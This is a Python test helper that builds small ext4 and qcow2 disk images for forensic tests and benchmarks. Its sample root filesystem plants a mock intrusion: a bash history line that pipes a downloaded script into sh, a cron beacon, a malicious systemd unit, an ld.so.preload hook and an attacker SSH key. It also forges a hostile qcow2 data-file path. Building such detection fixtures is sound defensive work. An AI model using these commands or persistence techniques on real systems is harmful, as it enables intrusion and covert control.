"""Build small real disk images with host tools, for tests and benchmarks.

No mounting: ``mke2fs -d`` fills an ext4 image from a directory, ``debugfs -w``
changes it the way a running guest would (write, unlink, mkdir, chmod), and
``qemu-img``/``qemu-io`` turn raw images into qcow2 bases, overlays,
internal snapshots and in-place writes.

Example::

    base_raw = make_ext4(tree_dir, tmp / "base.raw", size_mb=64)
    to_qcow2(base_raw, tmp / "base.qcow2")
    new_raw = edit_ext4(base_raw, tmp / "new.raw", ["rm /etc/motd", "write /tmp/x /tmp/.x"])
    overlay_from(new_raw, tmp / "base.qcow2", tmp / "overlay.qcow2")
"""

from __future__ import annotations

import shutil
import struct
import subprocess
import tempfile
from pathlib import Path


def _run(*cmd, stdin: str | None = None) -> str:
    res = subprocess.run([str(c) for c in cmd], input=stdin, capture_output=True, text=True)
    if res.returncode != 0:
        raise RuntimeError(f"{cmd[0]} failed: {res.stderr.strip() or res.stdout.strip()}")
    return res.stdout


def write_tree(root: Path, files: dict) -> Path:
    """Create files under root: {"etc/hostname": "victim\\n", "usr/bin/x": (b"...", 0o755)}."""
    for rel, content in files.items():
        mode = None
        if isinstance(content, tuple):
            content, mode = content
        p = Path(root) / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_bytes(content.encode() if isinstance(content, str) else content)
        if mode is not None:
            p.chmod(mode)
    return Path(root)


def make_ext4(tree: Path, out: Path, size_mb: int = 64, block_size: int = 4096) -> Path:
    """An ext4 filesystem image (no partition table) holding tree."""
    _run("mke2fs", "-q", "-F", "-t", "ext4", "-b", block_size, "-E", "root_owner=0:0", "-d", tree, out, f"{size_mb}M")
    return Path(out)


def edit_ext4(src: Path, out: Path, commands: list[str]) -> Path:
    """Copy src to out and apply debugfs -w commands to the copy (src untouched)."""
    shutil.copyfile(src, out)
    _run("debugfs", "-w", "-f", "-", out, stdin="\n".join(commands) + "\n")
    return Path(out)


def block_of(image: Path, path: str) -> int:
    """Physical block of a file's first data block (debugfs bmap)."""
    return int(_run("debugfs", "-R", f"bmap {path} 0", image).strip().split()[-1])


def to_qcow2(raw: Path, out: Path, cluster_size: int = 65536) -> Path:
    _run("qemu-img", "convert", "-f", "raw", "-O", "qcow2", "-o", f"cluster_size={cluster_size}", raw, out)
    return Path(out)


def overlay_from(
    new_raw: Path, base: Path, out: Path, recorded_backing: str | None = None, base_raw: Path | None = None
) -> Path:
    """A qcow2 overlay over base holding only the clusters where new_raw differs from base.

    Made the way a running guest makes one: an empty overlay, then qemu-io
    writes of just the changed chunks (``qemu-img convert -B`` would copy every
    allocated cluster). ``base_raw`` is base's content as raw (read from base
    when not given). ``recorded_backing`` rewrites the backing path the overlay
    records (e.g. an absolute host path that does not exist here).
    """
    _run("qemu-img", "create", "-f", "qcow2", "-b", Path(base).resolve(), "-F", "qcow2", out)
    if base_raw is None:
        base_raw = Path(out).with_suffix(".base-content.raw")
        _run("qemu-img", "convert", "-O", "raw", base, base_raw)
        write_changes(out, base_raw, new_raw)
        base_raw.unlink()
    else:
        write_changes(out, base_raw, new_raw)
    if recorded_backing:
        rebase(out, recorded_backing)
    return Path(out)


def rebase(image: Path, backing: str) -> None:
    """Rewrite only the recorded backing path (qemu-img rebase -u)."""
    _run("qemu-img", "rebase", "-u", "-f", "qcow2", "-b", backing, "-F", "qcow2", image)


def qcow2_over_data_file(data: Path, out: Path, recorded: str | None = None) -> Path:
    """A qcow2 whose guest clusters live in the raw file ``data`` (``data_file_raw``: guest
    offset = data file offset), recording ``recorded`` (default: ``data`` as given) as the
    external data file's name: what a hostile image would name instead."""
    scratch = Path(out).with_name(Path(out).name + ".scratch-data")
    _run(
        "qemu-img", "create", "-q", "-f", "qcow2", "-o", f"data_file={scratch},data_file_raw=on", out,
        str(Path(data).stat().st_size),
    )  # fmt: skip
    scratch.unlink()  # qemu-img made an empty one; the image maps every cluster 1:1, so ``data`` stands in
    set_data_file(out, recorded or str(data))
    return Path(out)


def set_data_file(image: Path, name: str) -> None:
    """Rewrite the external data file name a qcow2 v3 records (header extension 0x44415441),
    in place; the image must have no backing file (its name would follow the extensions)."""
    with open(image, "r+b") as fh:
        head = bytearray(fh.read(65536))
        assert struct.unpack_from(">Q", head, 8)[0] == 0, "image has a backing file"
        pos = end = struct.unpack_from(">I", head, 100)[0]
        exts = []
        while True:
            kind, length = struct.unpack_from(">II", head, pos)
            if kind == 0:
                break
            exts.append((kind, bytes(head[pos + 8 : pos + 8 + length])))
            pos += 8 + (length + 7 & ~7)
        exts = [(k, v) for k, v in exts if k != 0x44415441] + [(0x44415441, name.encode())]
        packed = b"".join(struct.pack(">II", k, len(v)) + v + bytes(-len(v) % 8) for k, v in exts)
        packed += bytes(8)  # end of extensions
        head[end : pos + 8] = bytes(pos + 8 - end)
        head[end : end + len(packed)] = packed
        fh.seek(0)
        fh.write(head[: max(pos + 8, end + len(packed))])


def snapshot(image: Path, name: str) -> None:
    """Create an internal snapshot of a qcow2 (qemu-img snapshot -c)."""
    _run("qemu-img", "snapshot", "-c", name, image)


def write_changes(image: Path, old_raw: Path, new_raw: Path, chunk: int = 65536) -> int:
    """Write into image (qcow2, in place) every chunk where new_raw differs from old_raw.

    This is how the active layer of a qcow2 changes after an internal snapshot
    while the guest runs. Returns the number of chunks written.
    """
    cmds = []
    with tempfile.TemporaryDirectory() as tmp, open(old_raw, "rb") as fa, open(new_raw, "rb") as fb:
        offset = 0
        while True:
            a, b = fa.read(chunk), fb.read(chunk)
            if not b:
                break
            if a != b:
                piece = Path(tmp) / f"{offset}.bin"
                piece.write_bytes(b)
                cmds += ["-c", f"write -q -s {piece} {offset} {len(b)}"]
            offset += len(b)
        for i in range(0, len(cmds), 400):  # stay under argv limits
            _run("qemu-io", "-f", "qcow2", *cmds[i : i + 400], image)
    return len(cmds) // 2


IMPLANT = b"\x7fELF\x02\x01\x01" + b"snapscope-test-implant" * 40


def sample_linux_files() -> dict:
    """A small Debian-like root with a planted intrusion, for tests and benchmarks."""
    return {
        "etc/hostname": "victim\n",
        "etc/os-release": 'PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\nNAME="Debian GNU/Linux"\n'
        'VERSION_ID="12"\nID=debian\n',
        "etc/passwd": "root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000:Alice,,,:/home/alice:/bin/bash\n",
        "etc/shadow": ("root:$6$x:19000:0:99999:7:::\nalice:$6$y:19000:0:99999:7:::\n", 0o640),
        "etc/group": "root:x:0:\nalice:x:1000:\n",
        "etc/timezone": "Europe/Amsterdam\n",
        "etc/network/interfaces": "auto eth0\niface eth0 inet static\n  address 10.0.2.15/24\n",
        "etc/cron.d/sync": "*/5 * * * * root /usr/lib/x/implant --beacon\n",
        "etc/systemd/system/evil.service": "[Unit]\nDescription=x\n[Service]\nExecStart=/usr/lib/x/implant -d\n"
        "[Install]\nWantedBy=multi-user.target\n",
        "etc/ld.so.preload": "/usr/lib/x/libevil.so\n",
        "usr/lib/x/implant": (IMPLANT, 0o755),
        "usr/lib/x/libevil.so": (b"\x7fELFlibevil", 0o644),
        "usr/bin/ls": (b"\x7fELF-ls", 0o755),
        "root/.bash_history": "id\ncurl http://10.0.2.100/a.sh | sh\n",
        "root/.bashrc": "alias ls='ls --color'\n",
        "home/alice/.ssh/authorized_keys": 'command="/tmp/.x/run" ssh-ed25519 AAAAC3Nz attacker@x\n',
        "var/log/auth.log": "Jan  5 10:00:01 victim sshd[123]: Accepted password for root from 10.0.2.2 "
        "port 5555 ssh2\n",
        "var/log/syslog": "Jan  5 10:00:02 victim CRON[200]: (root) CMD (/usr/lib/x/implant)\n",
        "var/lib/dpkg/status": "Package: bash\nStatus: install ok installed\nVersion: 5.2\nArchitecture: amd64\n\n",
        "tmp/.keep": "",
    }
